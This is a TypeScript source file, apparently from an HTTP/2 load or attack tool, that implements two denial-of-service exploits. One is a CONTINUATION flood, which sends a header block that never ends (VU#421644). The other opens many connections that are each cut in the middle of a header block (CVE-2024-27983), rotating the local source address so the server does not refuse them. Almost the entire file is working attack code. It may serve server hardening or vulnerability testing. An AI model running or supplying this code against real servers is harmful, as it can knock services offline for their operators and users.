import { eachSession } from '../each-session.ts';
import { frame, frameTypes, headers } from '../frames.ts';
import { connectBlock, literal } from '../hpack.ts';
import type { Job, Outcome, SessionOutcome } from '../job.ts';
import { RawSession } from '../raw-session.ts';

const part = frame(frameTypes.continuation, 0, 1, literal('x', 'y'));
const atOnce = 200;

/** A header block that never ends: HEADERS and `count` CONTINUATIONs (VU#421644). */
export function continuationFlood(job: Job): Promise<Outcome> {
  const begin = headers(1, connectBlock(job.authority), 0);
  const batch = Buffer.concat(Array.from({ length: atOnce }, () => part));
  return eachSession(job, async (session, over) => {
    await session.send(begin);
    while (!over() && session.sent < job.count!) {
      if (!(await session.send(batch))) return;
      session.sent += atOnce;
    }
  });
}

const open = 20;
const addresses = 250;

/** Connections that are cut in the middle of a header block (CVE-2024-27983), `count` of them unless time is over. */
export async function cutBlocks(job: Job): Promise<Outcome> {
  const block = Buffer.concat([headers(1, connectBlock(job.authority), 0), part]);
  const begun = performance.now();
  const ended: SessionOutcome[] = [];
  let [made, unopened] = [0, 0];
  const work = async () => {
    while (made < job.count! && performance.now() < begun + job.seconds * 1000) {
      made++;
      // From one address alone all but a few would be refused before their handshake.
      const localAddress = job.localAddress.replace(/\d+$/, String(1 + (made % addresses)));
      const session = await RawSession.open({ ...job, localAddress });
      if (!session) {
        unopened++;
        continue;
      }
      await session.send(block);
      session.sent++;
      session.leave();
      ended.push(session.outcome());
    }
  };
  await Promise.all(Array.from({ length: open }, work));
  return { sessions: ended, unopened, millis: performance.now() - begun };
}
